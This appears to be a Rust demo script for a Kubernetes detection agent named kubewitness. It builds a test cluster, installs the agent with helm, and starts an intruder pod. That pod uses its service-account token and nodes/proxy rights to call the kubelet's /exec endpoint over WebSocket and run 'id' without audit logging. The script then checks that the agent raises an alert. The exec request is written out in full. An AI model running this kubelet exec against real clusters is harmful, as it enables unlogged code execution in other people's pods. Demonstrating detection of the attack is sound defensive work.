//! `cargo xtask demo --in-cluster`: one `helm install`, and the pod on the node sees what another pod there does.

mod screen;

use std::time::{Duration, Instant};
use std::{fs, mem, thread};

use anyhow::{Context as _, Result, ensure};
use kubewitness_tests::agent::output_of;
use kubewitness_tests::build::{OwnProgram, helm};
use kubewitness_tests::chart::{self, AgentPod, Helm, NAME};
use kubewitness_tests::cluster::{CONTAINER, Cluster, IMAGE, Options, POD, Token};
use kubewitness_tests::held::Held;
use serde_json::{Value, json};

use self::screen::{Pod, Told};
use super::audit::{self, Entry};
use super::scenes::METRIC;
use super::{Curtain, Times, down, events, only_one};
use crate::arch::Arch;
use crate::progress::{note, step};
use crate::{build, image, setup};

/// The pod that attacks, and its `ServiceAccount`.
const INTRUDER: &str = "intruder";
/// How long the agent may take for what it should do within a second; a busy machine is slower.
const PATIENCE: Duration = Duration::from_secs(30);

/// Shows it; with `keep` the cluster and the release stay.
pub(super) fn show(keep: bool) -> Result<()> {
    let mut times = Times::default();
    let _lock = only_one()?;
    super::machine()?;
    super::interrupt::watch()?;
    let options = programs(&mut times)?;
    // What an earlier run left: after `--keep`, or after a power cut.
    down()?;
    let curtain = Curtain;
    let what = "cluster: with controllers, a scheduler, and a network for pods";
    let cluster = times.take("cluster", || step(what, || Ok(Cluster::up(&options)?)))?;
    let agent = times.take("helm install", || step("helm install: the image is there, the pod becomes ready", || install(&cluster)))?;
    let told = times.take("attack", || step("attack: from inside a pod, with its own token", || attack(&cluster, &agent)));
    let mut told = told.inspect_err(|_| note(&format!("the agent's log ends with: {}", last_words(&cluster, &agent))))?;
    let ended = if keep {
        mem::forget(curtain);
        Ok(())
    } else {
        told.left = Some(times.take("helm uninstall", || step("helm uninstall: what is left", || uninstall(&cluster, &agent)))?);
        times.take("down", || step("down: the cluster", || curtain.fall()))
    };
    screen::print(&told, cluster.release().version())?;
    note(&times.to_string());
    if keep {
        note(&look_around());
    }
    ended.and(told.verdict())
}

fn programs(times: &mut Times) -> Result<Options> {
    let client = || Ok(OwnProgram::KubeletCall.recipe().build()?);
    let go = |options: &Options| -> Result<()> {
        Cluster::prepare(options)?;
        helm().build()?;
        Ok(())
    };
    let client = step("build: the attacker's client in Go", client)?;
    let options = Options { controllers: true, image_files: vec![client], ..super::options() };
    thread::scope(|scope| {
        let go = scope.spawn(|| step("build: the cluster's programs and helm in Go", || go(&options)));
        let agent = times.take("build", || {
            setup::for_build(&[Arch::Amd64]).and_then(|()| build::all(Arch::Amd64)).and_then(|()| image::of_what_is_built())
        });
        let go = times
            .take("then the rest of the Go builds", || go.join().map_err(|_| anyhow::anyhow!("the build of the Go programs panicked"))?);
        agent.and(go)
    })?;
    Ok(options)
}

/// Returns when the agent knows the RBAC objects: it begins at a random time, so as not to come with all others.
fn install(cluster: &Cluster) -> Result<AgentPod> {
    cluster.load_images(&chart::image())?;
    Helm::new(cluster)?.upgrade(&chart::folder(), &chart::values(cluster))?;
    let agent = AgentPod::of(cluster)?;
    until("the agent knows the RBAC objects", || Ok(agent.logs(cluster)?.contains("the RBAC objects are known").then_some(())))?;
    Ok(agent)
}

/// A pod is started that does nothing but attack; nobody has to run a command in it, so the API server hears of nothing else.
fn attack(cluster: &Cluster, agent: &AgentPod) -> Result<Told> {
    cluster.service_account(INTRUDER)?;
    cluster.grant(INTRUDER, &["get"], &["nodes/proxy"])?;
    super::cast::until_granted(cluster, INTRUDER, "nodes/proxy")?;
    let pod = describe(cluster, agent)?;
    let reader = chart::reader(cluster)?;
    let counter = || counter(cluster, agent, &reader);
    let before = until("the metrics, for who may read them", counter)?;
    let log = cluster.audit_log();
    let begin = audit::length(&log)?;
    let command = command(cluster);
    cluster.apply(&intruder(&command).to_string())?;
    let alert = until("the event of the attack", || {
        let logs = agent.logs(cluster)?;
        let said = |event: &Value| events::text(&event["annotations"]["kubewitness.dev/findings"]).contains("unlogged-exec");
        Ok(chart::events(&logs).into_iter().find(said))
    })?;
    let loot = until("what the attack got", || {
        let logs = output_of(&mut cluster.kubectl(["logs", INTRUDER]))?;
        Ok(logs.lines().find(|line| line.starts_with("uid=")).map(str::to_owned))
    })?;
    let after = until("the metric of the attack", || Ok(counter()?.filter(|after| *after > before)))?;
    let logged = audit::between(&log, begin, audit::length(&log)?)?.into_iter().filter(is_about_it).collect();
    Ok(Told { pod, command, loot, alert, counted: (before, after), logged, left: None })
}

/// Of all that controllers do at any time: the kubelet's own questions, and whatever has to do with an exec or the intruder's rights.
fn is_about_it(entry: &Entry) -> bool {
    let by_intruder = entry.user.ends_with(&format!(":{INTRUDER}"));
    entry.is_review_by_node() || by_intruder || ["/exec", "/proxy"].iter().any(|part| entry.uri.contains(part))
}

/// The announcement's attack as a WebSocket upgrade; the token is the one that is mounted into every pod.
fn command(cluster: &Cluster) -> Vec<String> {
    let url = format!("https://{}:10250/exec/default/{POD}/{CONTAINER}?output=1&error=1&command=id", cluster.address());
    let headers = [
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Protocol: v4.channel.k8s.io",
    ];
    let headers = headers.iter().flat_map(|header| ["--header", *header]);
    let start = ["/bin/kubeletcall", "--body", "--token-file", "/var/run/secrets/kubernetes.io/serviceaccount/token"];
    start.into_iter().chain(headers).chain(["--url", &url]).map(str::to_owned).collect()
}

fn intruder(command: &[String]) -> Value {
    let container = json!({"name": CONTAINER, "image": IMAGE, "imagePullPolicy": "Never", "command": command});
    json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": INTRUDER, "namespace": "default"},
        "spec": {"serviceAccountName": INTRUDER, "restartPolicy": "Never", "containers": [container]},
    })
}

fn describe(cluster: &Cluster, agent: &AgentPod) -> Result<Pod> {
    let table = output_of(&mut cluster.kubectl(["--namespace", NAME, "get", "pods", "--output=wide"]))?;
    let path = format!("/proc/{}/status", agent.pid);
    let status = fs::read_to_string(&path).with_context(|| format!("cannot read {path}"))?;
    Ok(Pod { table, status, held: Held::by(agent.pid) })
}

/// What is left of the release, in the cluster and in the kernel.
fn uninstall(cluster: &Cluster, agent: &AgentPod) -> Result<screen::Left> {
    let (kubelet, held) = (cluster.kubelet_pid(), Held::by(agent.pid));
    Helm::new(cluster)?.uninstall()?;
    until("the end of the pod's processes", || Ok(cluster.processes_of_pod(&agent.uid).is_empty().then_some(())))?;
    let label = format!("--selector=app.kubernetes.io/instance={NAME}");
    let kinds = "daemonset,pod,serviceaccount,configmap,secret,networkpolicy,clusterrole,clusterrolebinding";
    until("the end of the release's objects", || {
        let objects = output_of(&mut cluster.kubectl(["get", kinds, "--all-namespaces", "--output=name", &label]))?;
        Ok(objects.is_empty().then_some(()))
    })?;
    // Nothing is pinned, so what no process holds is gone.
    let still = held.and(&Held::by_all());
    let same = kubelet.is_some() && cluster.kubelet_pid() == kubelet;
    Ok(screen::Left { held, still, same_kubelet: same })
}

/// The value of [`METRIC`]; `None` where the reader is not let in yet.
fn counter(cluster: &Cluster, agent: &AgentPod, reader: &Token) -> Result<Option<f64>> {
    let (status, page) = agent.get(cluster, "/metrics", Some(reader)).context("the agent's metrics cannot be fetched")?;
    Ok(page.lines().filter(|_| status == 200).find_map(|line| line.strip_prefix(METRIC)?.trim().parse().ok()))
}

fn last_words(cluster: &Cluster, agent: &AgentPod) -> String {
    agent.logs(cluster).ok().and_then(|logs| logs.lines().last().map(str::to_owned)).unwrap_or_default()
}

/// Tries again until there is an answer.
fn until<T>(what: &str, mut attempt: impl FnMut() -> Result<Option<T>>) -> Result<T> {
    let begun = Instant::now();
    loop {
        if let Some(value) = attempt()? {
            return Ok(value);
        }
        ensure!(begun.elapsed() < PATIENCE, "{what}: not within {} s", PATIENCE.as_secs());
        thread::sleep(Duration::from_millis(100));
    }
}

/// How to go on by hand after `--keep`.
fn look_around() -> String {
    let kubectl = format!("cargo xtask cluster --name {} kubectl", super::NAME);
    format!(
        "the cluster and the release stay. Look around:
      {kubectl} --namespace {NAME} get all
      {kubectl} --namespace {NAME} logs daemonset/{NAME}
      {kubectl} logs {INTRUDER}
    and end it with:
      cargo xtask demo --down"
    )
}
